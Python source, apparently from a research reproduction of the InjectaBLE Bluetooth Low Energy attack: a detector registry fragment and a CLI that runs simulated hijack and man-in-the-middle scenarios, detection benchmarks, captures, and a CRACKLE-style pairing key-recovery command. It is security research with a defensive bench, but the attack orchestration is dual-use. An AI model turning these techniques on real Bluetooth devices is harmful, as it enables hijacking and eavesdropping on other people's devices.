        description: one-liner for listings and the handbook.
    """

    name: str
    factory: Callable[[], Detector]
    description: str = ""


def register_detector(defn: DetectorDef, replace: bool = False) -> None:
    """Register a detector definition under ``defn.name``."""
    if defn.name in DETECTORS and not replace:
        raise ConfigurationError(
            f"detector {defn.name!r} is already registered")
    DETECTORS[defn.name] = defn


def get_detector(name: str) -> DetectorDef:
    """Look up a registered detector or fail with the known names."""
    try:
        return DETECTORS[name]
    except KeyError:
        raise ConfigurationError(
            f"unknown detector {name!r}; registered: "
            f"{', '.join(detector_names())}") from None


def detector_names() -> List[str]:
    """All registered detector names, in registration order."""
    return list(DETECTORS)


def make_detectors(names: Sequence[str] = ()) -> List[Detector]:
    """Instantiate fresh detectors by name (empty = every registered one)."""
    wanted = list(names) if names else detector_names()
    return [get_detector(name).factory() for name in wanted]
