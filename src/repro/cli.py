"""Command-line interface.

Exposes the reproduction's main entry points without writing a script::

    repro experiment hop --connections 10
    repro scenario b --device keyfob
    repro capture --duration 2
    repro capture --format pcap --scenario a --output run.pcap
    repro metrics hop --jobs 4
    repro campaign run examples/smoke-campaign.json --jobs 4
    repro crack

Each subcommand builds a deterministic world from ``--seed``, runs it, and
prints the same tables the benchmarks produce.
"""

from __future__ import annotations

import argparse
import sys
from typing import Optional, Sequence

from repro.analysis.reporting import render_distribution_table, render_series

#: CLI shorthand → display names used by the scenario/device registries.
SCENARIO_KEYS = {"a": "A (use feature)", "b": "B (slave hijack)",
                 "c": "C (master hijack)", "d": "D (MitM)"}
DEVICE_KEYS = {"bulb": "lightbulb", "keyfob": "keyfob",
               "watch": "smartwatch"}


def _apply_engine(args: argparse.Namespace) -> None:
    """Propagate ``--engine`` via the environment so ``--jobs`` worker
    processes inherit the same simulation engine as the parent."""
    import os

    from repro.sim.fastforward import ENGINE_ENV_VAR, resolve_engine

    engine = getattr(args, "engine", None)
    if engine is not None:
        os.environ[ENGINE_ENV_VAR] = resolve_engine(engine)


def _cmd_experiment(args: argparse.Namespace) -> int:
    from repro.experiments import (
        run_experiment_distance,
        run_experiment_hop_interval,
        run_experiment_payload_size,
        run_experiment_wall,
    )
    from repro.experiments.common import attempts_of, success_rate

    if args.which == "occupancy":
        return _cmd_experiment_occupancy(args)
    if args.which == "defense":
        return _cmd_experiment_defense(args)
    runners = {
        "hop": (run_experiment_hop_interval, "hop interval"),
        "payload": (run_experiment_payload_size, "PDU size (bytes)"),
        "distance": (run_experiment_distance, "position"),
        "wall": (run_experiment_wall, "distance behind wall (m)"),
    }
    runner, column = runners[args.which]
    _apply_engine(args)
    results = runner(base_seed=args.seed, n_connections=args.connections,
                     jobs=args.jobs, cache=args.cache)
    samples = {key: attempts_of(trials) for key, trials in results.items()}
    print(render_distribution_table(
        f"InjectaBLE sensitivity — {args.which} "
        f"({args.connections} connections/config, seed {args.seed})",
        column, samples))
    worst = min(success_rate(trials) for trials in results.values())
    print(f"\nworst-case success rate: {worst:.2f}")
    return 0 if worst == 1.0 else 1


def _cmd_experiment_occupancy(args: argparse.Namespace) -> int:
    """The occupancy sweep reports a success-vs-load curve, not a 100%
    floor — dense-RF worlds are *expected* to defeat some injections, so
    the exit code reflects completion rather than worst-case success."""
    from repro.experiments.dense import (
        run_experiment_occupancy,
        summarize_occupancy,
    )

    _apply_engine(args)
    results = run_experiment_occupancy(
        base_seed=args.seed, n_connections=args.connections,
        jobs=args.jobs, cache=args.cache)
    print(render_series(
        f"InjectaBLE vs. ambient occupancy "
        f"({args.connections} connections/level, seed {args.seed})",
        summarize_occupancy(results)))
    return 0


def _cmd_experiment_defense(args: argparse.Namespace) -> int:
    """The defense bench prints ROC/AUC and detection-latency rows per
    detector × attack scenario; negatives are the benign and dense-RF
    ambient traffics.  Exit code reflects completion — the table itself
    is the product (some signatures *should* score poorly)."""
    from repro.analysis.reporting import render_roc_table
    from repro.experiments.defense import (
        run_experiment_defense,
        summarize_defense,
    )

    _apply_engine(args)
    results = run_experiment_defense(
        base_seed=args.seed, n_connections=args.connections,
        jobs=args.jobs, cache=args.cache)
    print(render_roc_table(
        f"Defense bench — every detector vs. attack/benign/ambient "
        f"traffic ({args.connections} connections/traffic, seed "
        f"{args.seed})",
        summarize_defense(results)))
    failures = sum(1 for trials in results.values() for t in trials
                   if t.failure is not None)
    if failures:
        print(f"\n{failures} trial(s) failed to complete")
    return 0 if failures == 0 else 1


def _cmd_scenario(args: argparse.Namespace) -> int:
    from repro.experiments.scenarios import DEVICES, SCENARIOS

    runner = SCENARIOS[SCENARIO_KEYS[args.which]]
    device_cls = DEVICES[DEVICE_KEYS[args.device]]
    _apply_engine(args)
    ok, attempts = runner(device_cls, args.seed)
    print(render_series(
        f"Scenario {args.which.upper()} vs {args.device}",
        [("outcome", "OK" if ok else "FAILED", f"{attempts} attempt(s)")]))
    return 0 if ok else 1


def _capture_benign_world(args: argparse.Namespace, attach) -> None:
    """The historical capture world: bulb + phone, one write, no attacker."""
    from repro.devices import Lightbulb, Smartphone
    from repro.sim.medium import Medium
    from repro.sim.simulator import Simulator
    from repro.sim.topology import Topology

    sim = Simulator(seed=args.seed)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", 2.0, 0.0)
    medium = Medium(sim, topo)
    attach(sim, medium)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_000_000)
    ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
    phone.gatt.write(ctrl, Lightbulb.power_payload(False))
    sim.run(until_us=args.duration * 1_000_000)


def _cmd_capture(args: argparse.Namespace) -> int:
    from repro.analysis.packets import PacketCapture
    from repro.telemetry.capture import FrameRecorder

    observers: dict = {}

    def attach(sim, medium):
        observers["recorder"] = FrameRecorder(medium)
        if args.format == "text":
            observers["capture"] = PacketCapture(medium)

    if args.scenario:
        from repro.experiments.scenarios import DEVICES, SCENARIOS

        runner = SCENARIOS[SCENARIO_KEYS[args.scenario]]
        ok, attempts = runner(DEVICES[DEVICE_KEYS[args.device]], args.seed,
                              world_hook=attach)
        print(f"scenario {args.scenario.upper()} vs {args.device}: "
              f"{'OK' if ok else 'FAILED'} ({attempts} attempt(s))")
    else:
        _capture_benign_world(args, attach)

    recorder = observers["recorder"]
    if args.format == "text":
        print(observers["capture"].render(limit=args.limit))
        print(f"\n{len(recorder)} frames captured "
              f"(showing up to {args.limit})")
        return 0
    output = args.output or f"capture.{args.format}"
    if args.format == "pcap":
        written = recorder.write_pcap(output)
    else:
        written = recorder.write_jsonl(output)
    print(f"wrote {written} frame(s) to {output} ({args.format})")
    return 0


def _cmd_metrics(args: argparse.Namespace) -> int:
    from repro.analysis.reporting import render_metrics_table
    from repro.experiments import (
        run_experiment_defense,
        run_experiment_distance,
        run_experiment_hop_interval,
        run_experiment_occupancy,
        run_experiment_payload_size,
        run_experiment_wall,
    )
    from repro.runner import merge_trial_metrics

    runners = {
        "hop": run_experiment_hop_interval,
        "payload": run_experiment_payload_size,
        "distance": run_experiment_distance,
        "wall": run_experiment_wall,
        "occupancy": run_experiment_occupancy,
        "defense": run_experiment_defense,
    }
    runner = runners[args.which]
    _apply_engine(args)
    # Uncached on purpose: the point is a fresh, instrumented run whose
    # aggregate is reproducible for any --jobs value.
    results = runner(base_seed=args.seed, n_connections=args.connections,
                     jobs=args.jobs, cache=False, collect_metrics=True)
    flat = [trial for trials in results.values() for trial in trials]
    merged = merge_trial_metrics(flat)
    print(render_metrics_table(
        f"Telemetry — {args.which} ({len(flat)} trials, seed {args.seed})",
        merged))
    return 0


def _cmd_crack(args: argparse.Namespace) -> int:
    from repro.core.attacker import Attacker
    from repro.core.cracker import PairingSniffer, SessionCracker
    from repro.devices import Lightbulb, Smartphone
    from repro.sim.medium import Medium
    from repro.sim.simulator import Simulator
    from repro.sim.topology import Topology

    sim = Simulator(seed=args.seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_200_000)
    if not attacker.synchronized:
        print("attacker failed to synchronise", file=sys.stderr)
        return 1
    pairing = PairingSniffer(attacker.connection)
    previous = attacker.sniffer.on_event

    def hook(event):
        previous(event)
        pairing.on_event(event)

    attacker.sniffer.on_event = hook
    phone.host.pair(encrypt=True)
    sim.run(until_us=4_000_000)
    cracker = SessionCracker(pairing, max_pin=args.max_pin)
    ok = cracker.crack()
    rows = [
        ("pairing transcript", "complete" if pairing.transcript.complete
         else "incomplete"),
        ("TK (PIN)", str(cracker.pin) if ok else "not recovered"),
        ("STK", cracker.stk.hex() if cracker.stk else "-"),
        ("LL session key", cracker.session_key.hex()
         if cracker.session_key else "-"),
    ]
    print(render_series("CRACKLE-style passive key recovery", rows))
    return 0 if ok else 1


def _cmd_profile(args: argparse.Namespace) -> int:
    import cProfile
    import io
    import pstats

    from repro.experiments import (
        run_experiment_defense,
        run_experiment_distance,
        run_experiment_hop_interval,
        run_experiment_occupancy,
        run_experiment_payload_size,
        run_experiment_wall,
    )

    runners = {
        "hop": run_experiment_hop_interval,
        "payload": run_experiment_payload_size,
        "distance": run_experiment_distance,
        "wall": run_experiment_wall,
        "occupancy": run_experiment_occupancy,
        "defense": run_experiment_defense,
    }
    runner = runners[args.which]
    _apply_engine(args)
    profiler = cProfile.Profile()
    profiler.enable()
    # Serial and uncached on purpose: child processes would escape the
    # profiler, and cache hits would hide the simulation cost.
    runner(base_seed=args.seed, n_connections=args.connections,
           jobs=1, cache=False)
    profiler.disable()
    stream = io.StringIO()
    stats = pstats.Stats(profiler, stream=stream)
    stats.strip_dirs().sort_stats("cumulative").print_stats(args.top)
    header = (f"repro profile {args.which} — {args.connections} "
              f"connection(s) per configuration, seed {args.seed}, "
              f"top {args.top} by cumulative time")
    report = f"{header}\n{stream.getvalue()}"
    if args.output:
        from pathlib import Path

        Path(args.output).write_text(report)
        print(f"wrote profile report to {args.output}")
    else:
        print(report)
    return 0


def _cmd_doccheck(args: argparse.Namespace) -> int:
    from pathlib import Path

    from repro.doccheck import check_docs

    report = check_docs(
        paths=[Path(p) for p in args.files] or None,
        root=Path(args.root) if args.root else None,
        budget=not args.no_budget,
        stream=sys.stderr if args.verbose else None,
    )
    if args.format == "json":
        print(report.to_json())
    else:
        print(report.render_text())
    return 0 if report.ok else 1


def _cmd_lint(args: argparse.Namespace) -> int:
    from pathlib import Path

    from repro.lintkit import (
        default_package_root,
        load_baseline,
        prune_baseline,
        run_lint,
        save_baseline,
    )

    root = Path(args.root) if args.root else default_package_root()

    baseline_path = Path(args.baseline) if args.baseline else None
    if baseline_path is None:
        # Conventional locations: the working directory (running from a
        # checkout) or the repository root above an editable src/ install.
        from repro.lintkit.baseline import BASELINE_FILENAME

        candidates = [
            Path.cwd() / BASELINE_FILENAME,
            default_package_root().parent.parent / BASELINE_FILENAME,
        ]
        for candidate in candidates:
            if candidate.exists():
                baseline_path = candidate
                break

    flow_cache = None
    if args.flow and not args.no_flow_cache:
        from repro.lintkit.flow import default_flow_cache_dir

        flow_cache = Path(args.flow_cache) if args.flow_cache \
            else default_flow_cache_dir()

    baseline = load_baseline(baseline_path) if baseline_path else None
    report = run_lint(root=root, baseline=baseline, flow=args.flow,
                      flow_cache=flow_cache)

    if args.prune_baseline:
        if baseline is None:
            print("error: --prune-baseline needs a baseline file "
                  "(none found; pass --baseline)", file=sys.stderr)
            return 2
        removed = prune_baseline(baseline, report.stale_baseline)
        report.stale_baseline = []
        print(f"pruned {removed} stale baseline entr"
              f"{'y' if removed == 1 else 'ies'} from {baseline.path}")

    if args.write_baseline:
        target = baseline_path or Path.cwd() / "lint-baseline.json"
        merged = report.findings + report.baselined
        save_baseline(target, merged, reason="grandfathered via "
                      "`repro lint --write-baseline`")
        print(f"wrote {len(merged)} baseline entr"
              f"{'y' if len(merged) == 1 else 'ies'} to {target}")
        return 0

    if args.format == "json":
        print(report.to_json())
    else:
        print(report.render_text())
    return 0 if report.ok else 1


def _print_json(payload) -> None:
    """Print a machine-readable payload (one canonical JSON document)."""
    import json

    print(json.dumps(payload, indent=2, sort_keys=True))


def _cmd_campaign_status(args: argparse.Namespace) -> int:
    """``campaign status``: local journal or remote service, text/json."""
    from repro.campaign import load_state, render_status, status_dict

    if getattr(args, "url", None):
        from repro.campaign.service import fetch_status, follow_status

        if getattr(args, "follow", False):
            return _follow_remote(follow_status(args.url),
                                  as_json=args.format == "json")
        payload = fetch_status(args.url)
        if args.format == "json":
            _print_json(payload)
            return 0
        print(_render_remote_status(payload))
        return 0
    if not args.journal:
        print("campaign error: provide a journal path or --url",
              file=sys.stderr)
        return 2
    state = load_state(args.journal)
    if args.format == "json":
        _print_json(status_dict(state))
    else:
        print(render_status(state))
    return 0


def _render_remote_status(payload: dict) -> str:
    """Text rendering of the service's ``GET /status`` payload."""
    campaign = payload.get("campaign")
    service = payload.get("service", {})
    if not campaign:
        return "campaign service: no campaign loaded"
    rows = [
        ("fingerprint", str(campaign["fingerprint"])[:16]),
        ("axes", ", ".join(campaign["axes"])),
        ("units", str(campaign["total"])),
        ("completed", f"{campaign['done']}/{campaign['total']}"),
        ("ok", str(campaign["ok"])),
        ("failed", str(campaign["failed"])),
        ("pending", str(campaign["pending"])),
        ("in flight", str(service.get("inflight", 0))),
        ("workers seen", str(service.get("workers_seen", 0))),
    ]
    return render_series(f"Campaign {campaign['name']!r} (served)", rows)


def _follow_remote(events, as_json: bool) -> int:
    """Consume a ``/status?follow`` event stream until ``done``."""
    from repro.telemetry.progress import ProgressTracker

    tracker = ProgressTracker(stream=None if as_json else sys.stderr)
    failed = 0
    for event in events:
        if as_json:
            import json

            print(json.dumps(event, sort_keys=True), flush=True)
        kind = event.get("event")
        campaign = event.get("campaign") or {}
        if kind == "status" and campaign:
            tracker.label = f"campaign {campaign['name']!r}"
            tracker.reset(int(campaign["total"]))
            tracker.preload(done=int(campaign["done"]),
                            ok=int(campaign["ok"]),
                            failed=int(campaign["failed"]))
        elif kind == "unit":
            tracker.update(event.get("status", "failed"),
                           cached=bool(event.get("cached")))
        elif kind == "done" and campaign:
            failed = int(campaign["failed"])
            if not as_json:
                print(_render_remote_status(event))
    return 1 if failed else 0


def _cmd_campaign_report(args: argparse.Namespace) -> int:
    """``campaign report``: local journal or remote service, text/json."""
    from repro.campaign import build_report, load_state, report_dict

    if getattr(args, "url", None):
        from repro.campaign.service import fetch_report

        if args.format == "json":
            _print_json(fetch_report(args.url, as_json=True))
        else:
            print(fetch_report(args.url), end="")
        return 0
    if not args.journal:
        print("campaign error: provide a journal path or --url",
              file=sys.stderr)
        return 2
    state = load_state(args.journal)
    if args.format == "json":
        _print_json(report_dict(state))
    else:
        print(build_report(state))
    return 0


def _cmd_campaign_worker(args: argparse.Namespace) -> int:
    """``campaign worker``: work a coordinator until its campaign drains."""
    from repro.campaign.service import parse_endpoint, run_worker

    host, port = parse_endpoint(args.connect)
    return run_worker(host, port, worker_id=args.id,
                      oneshot=not args.forever,
                      reconnect_s=args.reconnect_s)


def _cmd_campaign_submit(args: argparse.Namespace) -> int:
    """``campaign submit``: POST a spec to a running service."""
    from repro.campaign import CampaignSpec
    from repro.campaign.service import submit_campaign

    spec = CampaignSpec.load(args.spec)
    accepted = submit_campaign(args.url, spec.to_dict(),
                               journal=args.journal)
    print(render_series(f"Campaign {accepted['name']!r} submitted", [
        ("fingerprint", str(accepted["fingerprint"])[:16]),
        ("journal", str(accepted["journal"])),
        ("units", str(accepted["total"])),
        ("pending", str(accepted["pending"])),
    ]))
    return 0


def _cmd_campaign(args: argparse.Namespace) -> int:
    from pathlib import Path

    from repro.campaign import (
        CampaignSpec,
        load_state,
        parse_shard,
        render_status,
        run_campaign,
    )
    from repro.errors import ReproError
    from repro.telemetry.progress import ProgressTracker

    try:
        if args.action == "status":
            return _cmd_campaign_status(args)
        if args.action == "report":
            return _cmd_campaign_report(args)
        if args.action == "worker":
            return _cmd_campaign_worker(args)
        if args.action == "submit":
            return _cmd_campaign_submit(args)
        if args.action == "run":
            spec = CampaignSpec.load(args.spec)
            journal = Path(args.journal)
        else:  # resume: the journal header carries the spec
            journal = Path(args.journal)
            spec = load_state(journal).spec
        tracker = ProgressTracker(stream=sys.stderr,
                                  label=f"campaign {spec.name!r}",
                                  every=args.progress_every)
        state = run_campaign(
            spec, journal,
            jobs=args.jobs,
            shard=parse_shard(args.shard),
            cache=args.cache,
            max_trials=args.max_trials,
            progress=tracker,
            fsync=args.fsync,
        )
        print(render_status(state))
        if state.pending:
            print(f"{len(state.pending)} unit(s) still pending — continue "
                  f"with: repro campaign resume {journal}")
        return 1 if state.failed_count else 0
    except ReproError as exc:
        print(f"campaign error: {exc}", file=sys.stderr)
        return 2


def _cmd_serve(args: argparse.Namespace) -> int:
    """``repro serve``: coordinator + HTTP API + managed local workers."""
    from pathlib import Path

    from repro.campaign import CampaignSpec, load_state, render_status
    from repro.campaign.service import serve_campaign
    from repro.errors import ReproError
    from repro.telemetry.progress import ProgressTracker

    journal = Path(args.journal)
    try:
        spec = CampaignSpec.load(args.spec) if args.spec else None
        if spec is None and not journal.exists():
            print("campaign error: no spec given and no journal to resume "
                  f"at {journal}", file=sys.stderr)
            return 2
        tracker = ProgressTracker(stream=sys.stderr, label="served",
                                  every=args.progress_every)

        def on_event(event: dict) -> None:
            kind = event.get("event")
            campaign = event.get("campaign") or {}
            if kind == "status" and campaign:
                tracker.label = f"campaign {campaign['name']!r} (served)"
                tracker.reset(int(campaign["total"]))
                tracker.preload(done=int(campaign["done"]),
                                ok=int(campaign["ok"]),
                                failed=int(campaign["failed"]))
            elif kind == "unit":
                tracker.update(event.get("status", "failed"),
                               cached=bool(event.get("cached")))

        def on_listening(port: int) -> None:
            print(f"campaign service listening on "
                  f"http://{args.host}:{port}", file=sys.stderr,
                  flush=True)

        state = serve_campaign(
            spec, journal,
            workers=args.workers,
            host=args.host,
            port=args.port,
            lease_timeout_s=args.lease_timeout,
            steal_after_s=args.steal_after,
            fsync=args.fsync,
            keep_alive=args.keep_alive,
            on_event=on_event,
            on_listening=on_listening,
        )
        print(render_status(state))
        return 1 if state.failed_count else 0
    except KeyboardInterrupt:
        print("campaign service interrupted", file=sys.stderr)
        return 130
    except ReproError as exc:
        print(f"campaign error: {exc}", file=sys.stderr)
        return 2


def _cmd_cache(args: argparse.Namespace) -> int:
    from repro.runner import ResultCache

    cache = ResultCache()
    if args.action == "clear":
        removed = cache.clear()
        print(f"removed {removed} cached trial result(s) from {cache.root}")
    else:
        print(render_series("Trial-result cache", [
            ("location", str(cache.root)),
            ("entries", str(len(cache))),
            # The result-relevant source hash keying every entry: edits to
            # sim/ll/phy/... change it; lintkit/analysis/CLI edits do not.
            ("code token", cache.token[:16]),
        ]))
    return 0


def build_parser() -> argparse.ArgumentParser:
    """The CLI argument parser (exposed for testing)."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="InjectaBLE reproduction: experiments, scenarios, "
                    "captures and key cracking over the simulated radio.",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    def _engine_arg(p: argparse.ArgumentParser) -> None:
        p.add_argument("--engine", choices=("fast", "reference"),
                       default=None,
                       help="simulation engine: 'fast' batches quiet "
                            "connection events analytically, 'reference' "
                            "runs event by event (default: $REPRO_ENGINE "
                            "or fast; results are identical)")

    experiment = sub.add_parser("experiment",
                                help="run a Figure 9 sensitivity sweep")
    experiment.add_argument("which",
                            choices=("hop", "payload", "distance", "wall",
                                     "occupancy", "defense"))
    experiment.add_argument("--connections", type=int, default=10)
    experiment.add_argument("--seed", type=int, default=1)
    experiment.add_argument("--jobs", type=int, default=None,
                            help="worker processes (default: $REPRO_JOBS or "
                                 "1; 0 = all cores)")
    experiment.add_argument("--cache", action="store_true",
                            help="reuse/store trial results in the on-disk "
                                 "cache")
    _engine_arg(experiment)
    experiment.set_defaults(func=_cmd_experiment)

    scenario = sub.add_parser("scenario", help="run one attack scenario")
    scenario.add_argument("which", choices=("a", "b", "c", "d"))
    scenario.add_argument("--device", choices=("bulb", "keyfob", "watch"),
                          default="bulb")
    scenario.add_argument("--seed", type=int, default=1000)
    _engine_arg(scenario)
    scenario.set_defaults(func=_cmd_scenario)

    capture = sub.add_parser("capture",
                             help="dissect or export simulated air traffic")
    capture.add_argument("--seed", type=int, default=7)
    capture.add_argument("--duration", type=float, default=2.0,
                         help="simulated seconds (benign world only)")
    capture.add_argument("--limit", type=int, default=80,
                         help="max packets to print (text format)")
    capture.add_argument("--format", choices=("text", "jsonl", "pcap"),
                         default="text",
                         help="text dissection, JSONL frame log, or "
                              "Wireshark-compatible Nordic BLE pcap")
    capture.add_argument("--output", default=None,
                         help="destination file for jsonl/pcap "
                              "(default: capture.<format>)")
    capture.add_argument("--scenario", choices=("a", "b", "c", "d"),
                         default=None,
                         help="capture an attack scenario run instead of "
                              "the benign bulb+phone world")
    capture.add_argument("--device", choices=("bulb", "keyfob", "watch"),
                         default="bulb",
                         help="victim device for --scenario captures")
    capture.set_defaults(func=_cmd_capture)

    metrics = sub.add_parser(
        "metrics",
        help="run an instrumented sweep and print merged telemetry")
    metrics.add_argument("which",
                         choices=("hop", "payload", "distance", "wall",
                                  "occupancy", "defense"))
    metrics.add_argument("--connections", type=int, default=5)
    metrics.add_argument("--seed", type=int, default=1)
    metrics.add_argument("--jobs", type=int, default=None,
                         help="worker processes (default: $REPRO_JOBS or 1; "
                              "0 = all cores); the aggregate is identical "
                              "for any value")
    _engine_arg(metrics)
    metrics.set_defaults(func=_cmd_metrics)

    crack = sub.add_parser("crack",
                           help="sniff a pairing and recover the keys")
    crack.add_argument("--seed", type=int, default=90)
    crack.add_argument("--max-pin", type=int, default=0,
                       help="brute-force bound (0 = Just Works only)")
    crack.set_defaults(func=_cmd_crack)

    profile = sub.add_parser(
        "profile",
        help="profile a reduced experiment sweep under cProfile")
    profile.add_argument("which",
                         choices=("hop", "payload", "distance", "wall",
                                  "occupancy", "defense"))
    profile.add_argument("--connections", type=int, default=2,
                         help="connections per configuration (reduced "
                              "workload default: 2)")
    profile.add_argument("--seed", type=int, default=1)
    profile.add_argument("--top", type=int, default=20,
                         help="entries to print, sorted by cumulative time")
    profile.add_argument("--output", default=None,
                         help="write the report to this file instead of "
                              "stdout")
    _engine_arg(profile)
    profile.set_defaults(func=_cmd_profile)

    campaign = sub.add_parser(
        "campaign",
        help="declare, run, resume and report sharded experiment sweeps")
    campaign_sub = campaign.add_subparsers(dest="action", required=True)

    def _campaign_exec_args(p: argparse.ArgumentParser,
                            journal_option: bool = True) -> None:
        if journal_option:
            p.add_argument("--journal", default="campaign.jsonl",
                           help="append-only checkpoint file "
                                "(default: campaign.jsonl)")
        p.add_argument("--jobs", type=int, default=None,
                       help="worker processes (default: $REPRO_JOBS or 1; "
                            "0 = all cores)")
        p.add_argument("--shard", default="0/1",
                       help="run shard i of n ('i/n', default 0/1); shards "
                            "partition the grid exactly")
        p.add_argument("--max-trials", type=int, default=None,
                       help="budget: at most N fresh units this invocation "
                            "(the rest stay pending for resume)")
        p.add_argument("--cache", action="store_true",
                       help="reuse/store trial results in the on-disk cache")
        p.add_argument("--fsync", action="store_true",
                       help="fsync the journal after every record (survives "
                            "power loss, not just process death)")
        p.add_argument("--progress-every", type=int, default=1,
                       help="print a progress line every N completed units")

    campaign_run = campaign_sub.add_parser(
        "run", help="start (or continue) a campaign from a JSON spec")
    campaign_run.add_argument("spec", help="campaign spec file (JSON)")
    _campaign_exec_args(campaign_run)
    campaign_run.set_defaults(func=_cmd_campaign)

    campaign_resume = campaign_sub.add_parser(
        "resume", help="continue an interrupted campaign from its journal")
    campaign_resume.add_argument("journal",
                                 help="journal written by 'campaign run'")
    _campaign_exec_args(campaign_resume, journal_option=False)
    campaign_resume.set_defaults(func=_cmd_campaign)

    campaign_status = campaign_sub.add_parser(
        "status", help="summarise a campaign journal or a running service")
    campaign_status.add_argument("journal", nargs="?", default=None,
                                 help="journal file (omit with --url)")
    campaign_status.add_argument("--url", default=None,
                                 help="query a running campaign service "
                                      "(http://HOST:PORT) instead of a "
                                      "journal file")
    campaign_status.add_argument("--follow", action="store_true",
                                 help="with --url: stream per-unit events "
                                      "until the campaign drains")
    campaign_status.add_argument("--format", choices=("text", "json"),
                                 default="text")
    campaign_status.set_defaults(func=_cmd_campaign)

    campaign_report = campaign_sub.add_parser(
        "report", help="render the full campaign report from a journal "
                       "or a running service")
    campaign_report.add_argument("journal", nargs="?", default=None,
                                 help="journal file (omit with --url)")
    campaign_report.add_argument("--url", default=None,
                                 help="fetch the report from a running "
                                      "campaign service (http://HOST:PORT)")
    campaign_report.add_argument("--format", choices=("text", "json"),
                                 default="text")
    campaign_report.set_defaults(func=_cmd_campaign)

    campaign_worker = campaign_sub.add_parser(
        "worker", help="join a campaign service as a worker process")
    campaign_worker.add_argument("--connect", required=True,
                                 metavar="HOST:PORT",
                                 help="coordinator address")
    campaign_worker.add_argument("--id", default=None,
                                 help="stable worker identity "
                                      "(default: worker-<pid>)")
    campaign_worker.add_argument("--reconnect-s", type=float, default=30.0,
                                 help="give up after this many seconds of "
                                      "consecutive unreachable-coordinator "
                                      "time (default: 30)")
    campaign_worker.add_argument("--forever", action="store_true",
                                 help="keep serving future campaigns "
                                      "instead of exiting when the current "
                                      "one drains")
    campaign_worker.set_defaults(func=_cmd_campaign)

    campaign_submit = campaign_sub.add_parser(
        "submit", help="POST a campaign spec to a running service")
    campaign_submit.add_argument("spec", help="campaign spec file (JSON)")
    campaign_submit.add_argument("--url", required=True,
                                 help="campaign service (http://HOST:PORT)")
    campaign_submit.add_argument("--journal", default=None,
                                 help="journal path on the service host "
                                      "(default: <name>.journal.jsonl)")
    campaign_submit.set_defaults(func=_cmd_campaign)

    serve = sub.add_parser(
        "serve",
        help="serve a campaign over TCP: coordinator, HTTP API and a "
             "managed local worker fleet")
    serve.add_argument("spec", nargs="?", default=None,
                       help="campaign spec file (omit to resume the "
                            "campaign recorded in --journal)")
    serve.add_argument("--journal", default="campaign.jsonl",
                       help="append-only checkpoint file "
                            "(default: campaign.jsonl)")
    serve.add_argument("--workers", type=int, default=2,
                       help="managed local worker processes (0 = rely on "
                            "external 'repro campaign worker' processes)")
    serve.add_argument("--host", default="127.0.0.1",
                       help="bind address (default: 127.0.0.1)")
    serve.add_argument("--port", type=int, default=0,
                       help="TCP port (default: 0 = ephemeral; the bound "
                            "port is printed on stderr)")
    serve.add_argument("--lease-timeout", type=float, default=60.0,
                       help="seconds before an unreported lease is "
                            "re-queued (default: 60)")
    serve.add_argument("--steal-after", type=float, default=2.0,
                       help="lease age before idle workers may steal it "
                            "(default: 2)")
    serve.add_argument("--fsync", action="store_true",
                       help="fsync the journal after every record")
    serve.add_argument("--keep-alive", action="store_true",
                       help="keep serving (and accepting submissions) "
                            "after the campaign drains")
    serve.add_argument("--progress-every", type=int, default=1,
                       help="print a progress line every N completed units")
    serve.set_defaults(func=_cmd_serve)

    cache = sub.add_parser("cache",
                           help="manage the on-disk trial-result cache")
    cache.add_argument("action", choices=("info", "clear"))
    cache.set_defaults(func=_cmd_cache)

    doccheck = sub.add_parser(
        "doccheck",
        help="smoke-run every repro command documented in the markdown "
             "docs and fail on drift")
    doccheck.add_argument("files", nargs="*",
                          help="markdown files to check (default: README.md "
                               "and EXPERIMENTS.md at the repo root)")
    doccheck.add_argument("--root", default=None,
                          help="documentation root for resolving example "
                               "paths (default: auto-detected)")
    doccheck.add_argument("--format", choices=("text", "json"),
                          default="text")
    doccheck.add_argument("--no-budget", action="store_true",
                          help="run documented commands verbatim instead of "
                               "with reduced smoke budgets")
    doccheck.add_argument("--verbose", action="store_true",
                          help="stream per-command progress to stderr")
    doccheck.set_defaults(func=_cmd_doccheck)

    lint = sub.add_parser(
        "lint",
        help="run the project's determinism/invariant static analysis")
    lint.add_argument("--format", choices=("text", "json"), default="text",
                      help="report format (json includes baselined and "
                           "inline-waived findings)")
    lint.add_argument("--baseline", default=None,
                      help="baseline file of grandfathered findings "
                           "(default: lint-baseline.json in the working "
                           "directory or the repository root)")
    lint.add_argument("--root", default=None,
                      help="directory tree to lint (default: the installed "
                           "repro package)")
    lint.add_argument("--write-baseline", action="store_true",
                      help="grandfather every current finding into the "
                           "baseline file instead of failing on them")
    lint.add_argument("--flow", dest="flow", action="store_true",
                      default=True,
                      help="run the flow-aware checkers over the project "
                           "call graph (default)")
    lint.add_argument("--no-flow", dest="flow", action="store_false",
                      help="skip call-graph construction and the "
                           "flow-aware checkers")
    lint.add_argument("--flow-cache", default=None,
                      help="directory for the call-graph cache (default: "
                           "the repro cache dir; keyed by a source-tree "
                           "hash)")
    lint.add_argument("--no-flow-cache", action="store_true",
                      help="always rebuild the call graph")
    lint.add_argument("--prune-baseline", action="store_true",
                      help="drop stale fingerprints from the baseline "
                           "file instead of only reporting them")
    lint.set_defaults(func=_cmd_lint)
    return parser


def main(argv: Optional[Sequence[str]] = None) -> int:
    """CLI entry point."""
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
