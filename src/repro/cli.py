"""Command-line interface.

Exposes the reproduction's main entry points without writing a script::

    repro experiment hop --connections 10
    repro scenario b --device keyfob
    repro capture --duration 2
    repro capture --format pcap --scenario a --output run.pcap
    repro metrics hop --jobs 4
    repro crack

Each subcommand builds a deterministic world from ``--seed``, runs it, and
prints the same tables the benchmarks produce.
"""

from __future__ import annotations

import argparse
import sys
from typing import Optional, Sequence

from repro.analysis.reporting import render_distribution_table, render_series


